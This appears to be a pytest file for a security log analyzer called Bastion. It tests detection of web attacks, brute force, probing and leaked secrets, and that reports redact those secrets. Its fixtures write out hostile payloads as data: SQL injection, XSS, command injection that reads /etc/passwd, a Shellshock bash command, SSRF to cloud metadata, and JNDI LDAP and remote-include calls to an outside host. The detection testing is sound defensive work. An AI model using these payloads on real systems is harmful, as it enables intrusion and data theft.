"""Signals on real-shaped lines: payloads decoded as servers decode them, behaviour over windows, leaks redacted."""

from __future__ import annotations

import json

import pytest

from bastion.logs import analyze_logs
from bastion.logs.decode import normalize
from bastion.logs.signals import app, leaks, payloads
from bastion.report import render

from tests.logs.support import access, nginx_error, rules_of, write

ATTACKS = [
    ("/items?id=1%2527%2520OR%25201%253D1--", "log-sql-injection"),  # URL-encoded twice
    ("/items?id=1%20UnIoN%20/**/SeLeCt%20password%20from%20users", "log-sql-injection"),
    ("/q?name=&#x27;&#x20;or&#x20;&#x27;a&#x27;=&#x27;a", "log-sql-injection"),  # HTML entities
    ("/q?id=1;WAITFOR%20DELAY%20'0:0:5'--", "log-sql-injection"),
    ("/item?id=%27", "log-sql-injection"),  # the lone-quote probe every scanner starts with
    ("/item?id=%3D%20--&page=2", "log-sql-injection"),
    ("/item?id=%5Cx27%5Cx4F%5Cx52%20SELECT%20*", "log-sql-injection"),  # hex escapes
    ("/item?id=%3C%3E%22'%25%3B)(%26%2B", "log-sql-injection"),  # the bad-characters probe
    ("/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", "log-xss"),
    ("/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "log-xss"),
    ("/r?next=javascript:alert(1)", "log-xss"),
    ("/static/..%252f..%252f..%252fetc%252fpasswd", "log-path-traversal"),
    ("/f?file=....//....//etc/shadow%00.png", "log-path-traversal"),
    ("/f?page=php://filter/convert.base64-encode/resource=index", "log-path-traversal"),
    ("/ping?host=127.0.0.1%7Ccat%20/etc/passwd", "log-command-injection"),
    ("/ping?host=x%24(whoami)", "log-command-injection"),
    ("/ping?host=8.8.8.8%0Auname%20-a", "log-command-injection"),  # a line break separates commands
    ("/ping?host=x%26ping%20-c%2030%2010.0.0.1%26", "log-command-injection"),  # the blind timing probe
    ("/calc?expr=1;system(%27id%27);//", "log-command-injection"),  # PHP code breaking out of a string
    ("/page?inc=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "log-command-injection"),  # <?php in base64
    ("/cart?state=O:4:%22User%22:1:%7Bs:4:%22role%22;s:5:%22admin%22;%7D", "log-command-injection"),  # serialized
    ("/s?q=abc%22%20onmouseover%3D%22top.x()", "log-xss"),  # an attribute written after the quote is closed
    ("/inc?page=http://203.0.113.9/shell.txt%00", "log-path-traversal"),  # a NUL cuts the app's own suffix
    ("/hello?name=%7B%7B7*7%7D%7D", "log-template-injection"),
    ("/hello?name={{''.__class__.__mro__[1].__subclasses__()}}", "log-template-injection"),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/", "log-ssrf"),
    ("/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL", "log-ssrf"),
    ("/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "log-jndi-lookup"),
    ("/?x=${${lower:j}${lower:n}di:ldap://x/a}", "log-jndi-lookup"),
]
BENIGN = [
    "/search?q=don%27t+stop+me+now", "/products?sort=price&order=desc&page=3", "/blog/select-the-right-union-for-you",
    "/api/v1/users/42/orders?include=items,payments", "/search?q=rock+and+roll", "/docs/c%2B%2B/templates",
    "/cart?coupon=SAVE10&utm_source=news&utm_medium=email", "/search?q=O%27Reilly+books", "/img/logo.svg?v=3",
    "/maps?ll=48.85,2.35&z=12", "/oauth/callback?code=abc123&state=xyz", "/files/report%20(final).pdf",
    "/search?q=%22exact+phrase%22", "/wiki/Special:Search?search=a+or+b", "/api/items?filter[price][gte]=10",
    "/products?sort=-price", "/colors?hex=%23ff8800", "/search?q=%22sleep+mask%22&page=2", "/search?q=it%27s+(new)",
    "/search?q=ping+pong+table", "/search?q=how+to+host+a+party", "/docs/php?fn=file_get_contents",
    "/search?q=%22tom+onions%22", "/events?tag=online&sort=on", "/img/hero.png?x=1%00",
]


@pytest.mark.parametrize("target, rule", ATTACKS)
def test_attacks_are_found_after_decoding(target, rule):
    assert rule in payloads.detect(normalize(target))


@pytest.mark.parametrize("target", BENIGN)
def test_everyday_requests_are_left_alone(target):
    assert payloads.detect(normalize(target)) == []


def test_decoding_handles_nulls_and_case():
    assert normalize("%2553%2545L%00ECT") == "select"  # a NUL inside a word goes
    assert normalize("%2553%2545LECT%00") == "select\x00"  # one ending a value stays: it truncates a file name
    assert normalize("id=1%0A%20env") == "id=1\nenv"  # a line break is a shell's separator, kept as one


def test_jndi_in_user_agent_and_shellshock_in_referer(tmp_path):
    log = write(tmp_path, "a.log", [access("203.0.113.5", "/", agent="${jndi:ldap://203.0.113.5:1389/Exploit}"),
                                    access("203.0.113.6", "/cgi-bin/x", referer="() { :; }; /bin/bash -c 'id'")])
    found = rules_of(analyze_logs([log]))
    assert found["log-jndi-lookup"][0].incident.client == "203.0.113.5"
    assert found["log-command-injection"][0].incident.client == "203.0.113.6"


def test_an_incident_groups_one_clients_lines_with_first_and_last_time(tmp_path):
    lines = [access("203.0.113.9", f"/p?id={i}%27%20OR%20%271%27=%271", at=i * 10) for i in range(4)]
    lines.append(access("198.51.100.1", "/p?id=1%20UNION%20SELECT%20null--", at=5))
    report = analyze_logs([write(tmp_path, "a.log", lines)])
    incidents = {f.incident.client: f.incident for f in rules_of(report)["log-sql-injection"]}
    first = incidents["203.0.113.9"]
    assert (first.count, first.first_seen, first.last_seen) == (4, "2026-12-07T11:00:00Z", "2026-12-07T11:00:30Z")
    assert [loc.line for loc in first.lines] == [1, 2, 3, 4]
    assert report.findings[0].attack == ("T1190",)
    assert report.details["top_clients"]["203.0.113.9"] == 4


def test_refused_attempts_are_less_severe_than_answered_ones(tmp_path):
    lines = [access("203.0.113.1", "/p?id=1%20UNION%20SELECT%201--", 403),
             access("203.0.113.2", "/p?id=1%20UNION%20SELECT%201--", 200)]
    severity = {f.incident.client: f.severity.value for f in analyze_logs([write(tmp_path, "a.log", lines)]).findings}
    assert severity == {"203.0.113.1": "medium", "203.0.113.2": "high"}


def test_probing_needs_many_distinct_missing_paths(tmp_path):
    probe = [access("203.0.113.7", f"/admin{i}.php", 404, at=i) for i in range(25)]
    lost = [access("198.51.100.3", "/favicon.ico", 404, at=i) for i in range(40)]  # one path, many times: a browser
    found = rules_of(analyze_logs([write(tmp_path, "a.log", probe + lost)]))
    [incident] = [f.incident for f in found["log-probing"]]
    assert (incident.client, incident.count) == ("203.0.113.7", 25)


def test_sensitive_file_served_is_critical(tmp_path):
    found = rules_of(analyze_logs([write(tmp_path, "a.log", [access("203.0.113.7", "/.git/config", 200)])]))
    assert found["log-sensitive-file-served"][0].severity.value == "critical"


def test_brute_force_and_credential_stuffing(tmp_path):
    brute = [access("203.0.113.8", "/login", 401, at=i, method="POST") for i in range(12)]
    stuffing = [access(f"198.51.100.{i}", f"/api/login?username=victim", 401, at=i, method="POST") for i in range(6)]
    app_log = [json.dumps({"level": "warning", "msg": "login failed", "username": f"user{i}", "client_ip": "203.0.113.50",
                           "time": "2026-12-07T11:00:%02dZ" % i}) for i in range(6)]
    found = rules_of(analyze_logs([write(tmp_path, "a.log", brute + stuffing), write(tmp_path, "app.json", app_log)]))
    assert [f.incident.client for f in found["log-brute-force"]] == ["203.0.113.8"]
    assert {f.incident.client for f in found["log-credential-stuffing"]} == {"user victim", "203.0.113.50"}


def test_rate_limits_per_zone_from_the_error_log(tmp_path):
    lines = [nginx_error(f'limiting requests, excess: 5.{i} by zone "api", client: 203.0.113.4, server: _, '
                         f'request: "GET /api HTTP/1.1"', at=i) for i in range(3)]
    lines += [nginx_error(f'limiting connections by zone "perip", client: 203.0.113.5, server: _, request: "GET /dl HTTP/1.1"',
                          at=10 + i) for i in range(3)]
    report = analyze_logs([write(tmp_path, "error.log", lines)])
    assert report.details["rate_limit_zones"] == {"api": 3, "perip": 3}
    found = {f.incident.client: f for f in rules_of(report)["log-rate-limited"]}
    assert found["203.0.113.4"].incident.count == 3 and "zone api" in found["203.0.113.4"].message
    assert found["203.0.113.5"].incident.count == 3 and "zone perip" in found["203.0.113.5"].message  # limit_conn


def test_error_spike_is_measured_against_the_logs_own_baseline(tmp_path):
    lines = []
    for minute in range(30):
        for i in range(50):
            status = 502 if minute == 20 and i < 25 else (500 if i == 0 else 200)  # always 2% errors; one bad minute
            lines.append(access(f"203.0.113.{i}", "/api", status, at=minute * 60 + i))
    [spike] = rules_of(analyze_logs([write(tmp_path, "a.log", lines)]))["log-error-spike"]
    assert spike.incident.first_seen == "2026-12-07T11:20:00Z" and spike.incident.count == 25


def test_app_signals_sql_errors_tracebacks_bursts(tmp_path):
    lines = ["2026-12-07 11:00:00,120 ERROR app.views: query failed", "Traceback (most recent call last):",
             '  File "/srv/app/views.py", line 42, in show_user', "    row = db.execute(sql)",
             'psycopg2.errors.SyntaxError: syntax error at or near "\'"']
    lines += [f"2026-12-07 11:0{m}:{s:02d},000 INFO app: ok" for m in range(1, 6) for s in range(3)]
    lines += [f"2026-12-07 11:07:{s:02d},000 ERROR app.db: connection refused" for s in range(15)]
    found = rules_of(analyze_logs([write(tmp_path, "app.log", lines)]))
    [sql] = found["log-sql-error"]
    assert sql.properties["details"] == {"driver=postgresql": 1, "frame=/srv/app/views.py:42 in show_user": 1}
    assert found["log-error-burst"][0].incident.count == 15
    assert app.sql_error("ORA-00933: SQL command not properly ended") == "oracle"
    assert app.sql_error("Unclosed quotation mark after the character string ''.") == "mssql"
    assert app.sql_error("MongoServerError: unknown operator: $foo") == "mongodb"
    assert app.sql_error("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server "
                         "version for the right syntax to use near '\\'' at line 1") == "mysql"
    assert app.sql_error("ER_PARSE_ERROR: You have an error in your SQL syntax") == "mysql"  # node mysql
    assert app.sql_error("sqlite3.OperationalError: near \"'\": syntax error") == "sqlite"
    assert app.sql_error("SQLITE_ERROR: unrecognized token: \"'\"") == "sqlite"  # node sqlite3
    assert app.sql_error("sqlalchemy.exc.OperationalError: (sqlite3.OperationalError) unrecognized token") == "sqlalchemy"
    assert app.sql_error("GET /search?q=select+comfort+mattress 200") is None


def _secret_values() -> list[str]:
    """Credentials made at run time (a literal one in this file would be a leak Bastion itself reports)."""
    import base64
    import random

    from bastion.secrets import samples

    rng = random.Random(17)
    stripe_prefix = "sk_live"
    header = base64.urlsafe_b64encode(json.dumps({"alg": "HS256"}).encode()).decode().rstrip("=")
    claims = base64.urlsafe_b64encode(json.dumps({"sub": "1234"}).encode()).decode().rstrip("=")
    return [samples.render("ghp_{A:30}{crc}", rng), "Winter2026!Sup3rS3cret",
            f"{stripe_prefix}_{''.join(rng.choice('abcdefXYZ0123456789') for _ in range(24))}",
            f"{header}.{claims}.{'c2lnbmF0dXJl' * 2}", "4111111111111111"]


SECRET_VALUES = _secret_values()


def test_leaks_are_found_and_never_shown_whole_in_any_format(tmp_path):
    access_lines = [access("203.0.113.3", f"/api/data?access_token={SECRET_VALUES[0]}")]
    app_lines = [json.dumps({"level": "info", "msg": "signup", "password": SECRET_VALUES[1], "email": "ada@example.org"}),
                 json.dumps({"level": 30, "msg": "request", "req": {"headers": {"authorization": f"Bearer {SECRET_VALUES[3]}"}}}),
                 f"2026-12-07 11:00:00 INFO billing: charge card={SECRET_VALUES[4]} key={SECRET_VALUES[2]}"]
    report = analyze_logs([write(tmp_path, "access.log", access_lines), write(tmp_path, "app.log", app_lines)])
    found = rules_of(report)
    assert {"log-token-in-url", "log-secret", "log-auth-header", "log-personal-data"} <= set(found)
    for fmt in ("text", "json", "sarif", "markdown", "junit"):
        text = render(report, fmt)
        for value in SECRET_VALUES:
            assert value not in text, (fmt, value)


def test_luhn_and_brands():
    assert leaks.luhn("4111111111111111") and not leaks.luhn("4111111111111112")
    assert leaks.card_brand("378282246310005") == "amex" and leaks.card_brand("1234567890123") is None
    assert leaks.personal_data("order 1796641200000 shipped") == []  # a millisecond timestamp is no card


def test_masked_values_are_not_leaks():
    assert leaks.headers('"authorization":"[Redacted]"') == []
    assert leaks.query_tokens("/cb?token=********") == []


def test_proxies_health_checks_and_private_addresses(tmp_path):
    behind_proxy = [access("10.0.0.2", f"/x{i}", 404, at=i, forwarded=f"198.51.100.{i % 250}, 203.0.113.77") for i in range(30)]
    spoofed = [access("203.0.113.88", f"/y{i}", 404, at=i, forwarded="10.9.9.9") for i in range(30)]
    health = [access("203.0.113.90", "/healthz", 503, at=i, agent="kube-probe/1.29") for i in range(30)]
    internal = [access("192.168.1.20", f"/z{i}", 404, at=i) for i in range(30)]
    report = analyze_logs([write(tmp_path, "a.log", behind_proxy + spoofed + health + internal)])
    assert sorted(f.incident.client for f in rules_of(report)["log-probing"]) == ["203.0.113.77", "203.0.113.88"]
    assert report.details["allow_listed"] == {"health check": 30, "private address": 30}
    alerting = analyze_logs([write(tmp_path, "b.log", internal)], alert_private=True)
    assert [f.incident.client for f in alerting.findings] == ["192.168.1.20"]
